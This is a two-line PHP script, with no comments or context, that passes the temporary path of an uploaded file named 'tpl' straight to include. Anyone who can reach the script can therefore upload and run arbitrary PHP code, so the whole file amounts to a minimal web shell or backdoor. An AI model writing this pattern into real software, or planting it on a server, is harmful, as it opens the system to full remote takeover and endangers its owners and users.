<?php
include $_FILES['tpl']['tmp_name'];
